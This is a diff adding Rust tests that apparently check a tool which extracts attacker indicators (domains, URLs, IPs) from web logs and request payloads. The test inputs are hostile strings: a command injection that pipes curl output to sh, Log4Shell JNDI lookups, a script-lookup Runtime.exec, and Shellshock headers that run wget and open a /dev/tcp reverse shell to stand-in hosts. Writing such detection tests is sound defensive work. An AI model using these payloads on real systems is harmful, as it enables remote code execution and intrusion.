@@ -142,6 +142,40 @@ fn a_payload_ends_where_the_field_ends_that_holds_it() {
 }
 
 #[test]
+fn what_is_fetched_behind_the_variable_of_a_shell_is_an_indicator() {
+    let from = ("ip-src", "203.0.113.9");
+    let evil = [("domain", "evil.example"), ("url", "http://evil.example/x")];
+    let (own, command) = ("https://shop.test-org.com/login", ";curl${IFS}http://evil.example/x|sh");
+    expect(&request("/", own, command), &[from, evil[0], evil[1]]);
+    expect(&json!({"data": {"user_agent": command}}), &evil);
+    expect(
+        &json!({"full_log": "ModSecurity: Warning [uri \"/cgi-bin/;wget${IFS}http://evil.example/x\"] [ref \"https://shop.test-org.com\"]"}),
+        &evil,
+    );
+}
+
+#[test]
+fn quotation_marks_hide_no_payload() {
+    let evil = [("domain", "evil.example"), ("url", "ldap://evil.example/a")];
+    for look_up in [
+        "\"${jndi:${env:\":-}ldap://evil.example/a}",
+        "${jndi:${env:\":-}ldap://evil.example/a}",
+    ] {
+        expect(&json!({"data": {"user_agent": look_up}}), &evil);
+        let line = json!({"http": {"user_agent": look_up, "referer": "https://shop.test-org.com"}}).to_string();
+        expect(&json!({"full_log": line}), &evil);
+    }
+    let script = "\"${script:javascript:java.lang.Runtime.getRuntime().exec([\"sh\",\"-c\",\"curl ldap://evil.example/a\"])}\"";
+    expect(&json!({"data": {"msg": format!("ua={script}")}}), &evil);
+    expect(&json!({"full_log": format!("app: disk 5\" sent {}", &script[1..])}), &evil);
+    let printable = "GET / HTTP/1.1\r\nIf-None-Match: \"\r\nUser-Agent: () { :; }; echo \"a\" ; wget http://203.0.113.66/x";
+    expect(
+        &json!({"data": {"payload_printable": printable}}),
+        &[("ip-dst", "203.0.113.66"), ("url", "http://203.0.113.66/x")],
+    );
+}
+
+#[test]
 fn addresses_are_found_in_payloads_that_name_no_scheme() {
     let (from, to) = (("ip-src", "203.0.113.9"), ("ip-dst", "203.0.113.66"));
     let shell = "() { :; }; /bin/bash -c 'wget 203.0.113.66/x; bash -i >& /dev/tcp/203.0.113.67/4444'";
